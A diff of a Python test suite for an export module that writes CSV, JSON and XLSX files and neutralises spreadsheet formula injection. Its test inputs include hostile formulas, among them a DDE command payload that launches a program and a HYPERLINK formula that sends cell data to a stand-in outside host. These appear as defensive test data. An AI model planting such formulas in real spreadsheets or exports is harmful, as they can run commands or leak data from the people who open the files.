@@ -6,11 +6,10 @@ import csv
 import io
 import json
 import sys
-from datetime import UTC, date, datetime, time, timedelta, timezone
+from datetime import UTC, date, datetime, timedelta, timezone
 from decimal import Decimal
 from pathlib import Path
 from typing import Any
-from uuid import UUID
 
 import openpyxl
 import pytest
@@ -18,13 +17,17 @@ from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl.utils.escape import unescape
 
-from tasks.cells import CellTooLong, csv_cell, json_cell, neutral, xlsx_cell
+from tasks.cells import CellTooLong, Json, csv_cell, json_cell, xlsx_cell
 from tasks.formats import FORMATS, XlsxWriter
+from tasks.formulas import neutral, original, runs
 
 FORMULAS = [
     "=1+1",
-    "+1",
-    "-1",
+    "+a",
+    "-a",
+    "-1+1",
+    "+49 30 1",
+    "-1-cmd",
     "@SUM(A1)",
     "\t=1",
     "\rx",
@@ -43,8 +46,26 @@ FORMULAS = [
     "=cmd|' /C calc'!A0",
     '=HYPERLINK("http://x.example/?"&A1)',
 ]
-INNER = ["x,=1", "x;=1", "x\t+1", "x|@1", "x\n=1", "x\r\n-1", "x; =1", 'x,"=1', "x;\uff1d1", '";=1;"']
-HARMLESS = ["", "a=b", "1-2", "me@example.org", "x, y", "https://example.org/?a=1", "'=1", "12:30", "a - b", "ä\u2028b"]
+INNER = ["x,=1", "x;=1", "x\t+a", "x|@1", "x\n=1", "x\r\n-1-a", "x; =1", 'x,"=1', "x;\uff1d1", '";=1;"']
+HARMLESS = [
+    "",
+    "a=b",
+    "1-2",
+    "me@example.org",
+    "x, y",
+    "https://example.org/?a=1",
+    "12:30",
+    "-1",
+    "+1",
+    "-.5e-7",
+    "-Infinity",
+    "{1,-2}",
+    "[-1,5)",
+    "(1,-2)",
+    '{"a": [-1, -2.5]}',
+    "a - b",
+    "ä\u2028b",
+]
 EAST = timezone(timedelta(hours=2))
 SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
 
@@ -91,31 +112,57 @@ def test_other_texts_stay_as_they_are(text: str) -> None:
     assert csv_cell(text) == text
 
 
-@given(st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("=+-@;,|\t\r\n\" '")))
-def test_neutralising_is_idempotent_and_only_adds_apostrophes(text: str) -> None:
-    """A file that is processed again does not collect apostrophes."""
-    assert neutral(neutral(text)) == neutral(text)
+HOSTILE = st.text(alphabet=st.characters(codec="utf-8") | st.sampled_from("=+-@;,|\t\r\n\" '0.e)]}"))
+
+
+@given(HOSTILE)
+def test_every_text_can_be_had_back(text: str) -> None:
+    """One that looks as if it had been neutralised already, too: it gets one apostrophe more."""
+    assert original(neutral(text)) == text
     assert neutral(text).replace("'", "") == text.replace("'", "")
+
+
+@given(HOSTILE)
+def test_a_text_of_a_csv_file_is_not_neutralised_twice(text: str) -> None:
+    """What is read back is the text of the database, so that another file of it looks the same."""
+    cell = csv_cell(text)
+    assert cell is not None
+    assert csv_cell(original(cell)) == cell
+
+
+@given(st.decimals(allow_nan=False, allow_infinity=False) | st.floats(allow_nan=False) | st.integers())
+def test_a_text_that_is_a_number_stays_as_it_is(number: Any) -> None:
+    """With a sign, a fraction, an exponent, and as PostgreSQL writes infinity."""
+    text = str(number).replace("inf", "infinity")
+    assert neutral(text) == text
+    assert neutral(f"[{text}, {text}]") == f"[{text}, {text}]"
+
+
+@given(HOSTILE)
+def test_an_xlsx_cell_is_the_text_itself(text: str) -> None:
+    """It has a type: nothing has to be marked."""
+    assert xlsx_cell(text) == text
 
 
 def test_neutralising_is_linear_in_the_length_of_the_text() -> None:
     """A megabyte of what may stand before a sign does not stall an export."""
-    for filler in (" ", "\n", ",", ', "', "\t "):
-        assert neutral(filler * (1_000_000 // len(filler)))
+    for filler in (" ", "\n", ",", ', "', "\t ", "'", ",'", ",-1", ",-1 "):
+        text = filler * (1_000_000 // len(filler))
+        assert original(neutral(text)) == text
 
 
 def test_negative_numbers_stay_numbers() -> None:
     """Only texts are neutralised."""
-    values = [-5, -0.5, Decimal("-12.50"), timedelta(seconds=-2)]
-    assert [csv_cell(value) for value in values] == ["-5", "-0.5", "-12.50", "-2.0"]
-    assert [json_cell(value) for value in values] == [-5, -0.5, -12.5, -2.0]
-    assert [xlsx_cell(value) for value in values] == [-5, -0.5, -12.5, -2.0]
+    values = [-5, -0.5, Decimal("-12.50")]
+    assert [csv_cell(value) for value in values] == ["-5", "-0.5", "-12.50"]
+    assert [json_cell(value) for value in values] == [-5, -0.5, -12.5]
+    assert [xlsx_cell(value) for value in values] == [-5, -0.5, -12.5]
 
 
 @pytest.mark.parametrize(
     ("value", "in_csv", "in_json"),
     [
-        (None, "", None),
+        (None, None, None),
         (True, "true", True),
         (False, "false", False),
         (2**53, "9007199254740992", 2**53),
@@ -123,35 +170,38 @@ def test_negative_numbers_stay_numbers() -> None:
         (-(2**63), "-9223372036854775808", "-9223372036854775808"),
         (0.1, "0.1", 0.1),
         (float("nan"), "NaN", "NaN"),
-        (float("-inf"), "'-Infinity", "-Infinity"),
+        (float("-inf"), "-Infinity", "-Infinity"),
         (Decimal("12.50"), "12.50", 12.5),
         (Decimal("12.00"), "12.00", 12),
         (Decimal("1E+3"), "1000", 1000),
         (Decimal("0.1234567890123456789"), "0.1234567890123456789", "0.1234567890123456789"),
         (Decimal("NaN"), "NaN", "NaN"),
         (date(2026, 1, 2), "2026-01-02", "2026-01-02"),
-        (datetime(2026, 1, 2, 3, 4, 5, 678999, UTC), "2026-01-02T03:04:05.678Z", "2026-01-02T03:04:05.678Z"),
+        (datetime(2026, 1, 2, 3, 4, 5, 678999, UTC), "2026-01-02T03:04:05.678999Z", "2026-01-02T03:04:05.678999Z"),
         (datetime(2026, 1, 2, 3, tzinfo=EAST), "2026-01-02T01:00:00.000Z", "2026-01-02T01:00:00.000Z"),
         (datetime(2026, 1, 2), "2026-01-02T00:00:00.000", "2026-01-02T00:00:00.000"),  # noqa: DTZ001 - a column without zone
-        (time(3, 4), "03:04:00", "03:04:00"),
-        (timedelta(minutes=1, milliseconds=5), "60.005", 60.005),
-        (UUID(int=1), "00000000-0000-0000-0000-000000000001", "00000000-0000-0000-0000-000000000001"),
         (b"\xff\xfe", "//4=", "//4="),
-        ({"n": 2**60, "l": [None, Decimal("1.5")]}, '{"n": "1152921504606846976", "l": [null, 1.5]}',
-         {"n": str(2**60), "l": [None, 1.5]}),
+        (Json('{"n": 1152921504606846976, "l": [null, 1.50, 0.12345678901234567890, -1e-7]}'),
+         '{"n": 1152921504606846976, "l": [null, 1.50, 0.12345678901234567890, -1e-7]}',
+         {"n": "1152921504606846976", "l": [None, 1.5, "0.12345678901234567890", -1e-7]}),
+        (Json("1e400"), "1e400", "1e400"),
+        (Json("1e-99999999999999999999"), "1e-99999999999999999999", "1e-99999999999999999999"),
+        (Json('{"a": 1, "a": 2}'), '{"a": 1, "a": 2}', '{"a": 1, "a": 2}'),
+        (Json(r'"\ud800"'), r'"\ud800"', r'"\ud800"'),
+        (Json("[" * 5000 + "]" * 5000), "[" * 5000 + "]" * 5000, "[" * 5000 + "]" * 5000),
     ],
 )  # fmt: skip
-def test_every_kind_of_value_has_one_form_in_csv_and_json(value: Any, in_csv: str, in_json: Any) -> None:
-    """No number loses a digit; times are in UTC with milliseconds."""
+def test_every_kind_of_value_has_one_form_in_csv_and_json(value: Any, in_csv: str | None, in_json: Any) -> None:
+    """No number loses a digit; times are in UTC, a json value is PostgreSQL's text or JSON."""
     assert csv_cell(value) == in_csv
     assert json_cell(value) == in_json
     json.dumps(json_cell(value), allow_nan=False)
 
 
 def test_csv_is_rfc_4180(tmp_path: Path) -> None:
-    """Comma, CRLF, doubled quotes, a header line, no byte order mark."""
-    path = write("csv", ["id", "text"], [[1, 'a "b", c'], [2, "line\r\nline"], [None, "ä"]], tmp_path / "x")
-    expected = 'id,text\r\n1,"a ""b"", c"\r\n2,"line\r\nline"\r\n,ä\r\n'
+    """Comma, CRLF, doubled quotes, a header line, no byte order mark; null is told from an empty text."""
+    path = write("csv", ["id", "text"], [[1, 'a "b", c'], [2, "line\r\nline"], [None, "ä"], [3, ""]], tmp_path / "x")
+    expected = 'id,text\r\n1,"a ""b"", c"\r\n2,"line\r\nline"\r\n,ä\r\n3,""\r\n'
     assert path.read_bytes() == expected.encode()
 
 
@@ -180,13 +230,19 @@ def test_xlsx_keeps_numbers_times_and_texts(tmp_path: Path) -> None:
         date(2026, 1, 2),
         None,
         2**60,
-        date(1899, 1, 1),
+        date(1900, 2, 28),
         Decimal("Infinity"),
+        Decimal("0.1234567890123456"),
+        Decimal("-123456789012.345"),
+        0.1 + 0.2,
+        5e-324,
+        datetime(9999, 12, 31, 23, 59, 59, 999999),  # noqa: DTZ001
     ]
     path = write("xlsx", [str(number) for number in range(len(row))], [row], tmp_path / "x")
     assert read_xlsx(path)[1] == [
         7, -1.5, -12.5, True, "ä", datetime(2026, 1, 2, 2, 4, 5, 678000), datetime(2026, 1, 2), None,  # noqa: DTZ001
-        "1152921504606846976", "1899-01-01", "Infinity",
+        "1152921504606846976", "1900-02-28", "Infinity", "0.1234567890123456", -123456789012.345, 0.1 + 0.2, "5e-324",
+        datetime(9999, 12, 31, 23, 59, 59, 999000),  # noqa: DTZ001
     ]  # fmt: skip
 
 
@@ -199,7 +255,8 @@ def test_xlsx_has_no_formula_link_or_markup(text: str, tmp_path: Path) -> None:
     book = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
     cells = [cell for row in book.worksheets[0].iter_rows() for cell in row]
     assert all(cell.data_type != "f" and cell.hyperlink is None for cell in cells)
-    assert not str(cells[1].value).startswith(tuple(SIGNS))
+    assert unescape(str(cells[1].value)) == text
+    assert cells[1].quotePrefix == runs(text)
     assert cells[2].value == 1
     book.close()
 
@@ -212,14 +269,16 @@ def test_xlsx_takes_any_text(text: str, tmp_path: Path) -> None:
 
 
 def test_xlsx_has_no_character_that_xml_forbids(tmp_path: Path) -> None:
-    """Excel would call the file damaged; control characters have an escape of their own."""
+    """Excel would call the file damaged; they have an escape, as control characters have."""
     path = write("xlsx", ["text"], [["a\ufffeb\uffffc"]], tmp_path / "x")
-    assert read_xlsx(path)[1] == ["a\ufffdb\ufffdc"]
+    assert "\uffff" not in read_xlsx(path)[1][0]
+    assert unescape(read_xlsx(path)[1][0]) == "a\ufffeb\uffffc"
 
 
 def test_a_text_that_no_cell_can_hold_is_refused(tmp_path: Path) -> None:
     """XlsxWriter alone would leave the cell empty without a word."""
-    assert write("xlsx", ["text"], [["x" * 32_767]], tmp_path / "x").stat().st_size
+    longest = "=" * 32_767
+    assert read_xlsx(write("xlsx", ["text"], [[longest]], tmp_path / "x"))[1] == [longest]
     with pytest.raises(CellTooLong, match="csv or json"):
         xlsx_cell("x" * 32_768)
     with pytest.raises(CellTooLong):
@@ -244,7 +303,7 @@ def test_column_names_are_neutralised_where_cells_are(form: str, tmp_path: Path)
     if form == "csv":
         assert path.read_text().splitlines()[0] == "'=1"
     elif form == "xlsx":
-        assert read_xlsx(path)[0] == ["'=1"]
+        assert read_xlsx(path)[0] == ["=1"]
     else:
         assert json.loads(path.read_text()) == [{"=1": 1}]
 
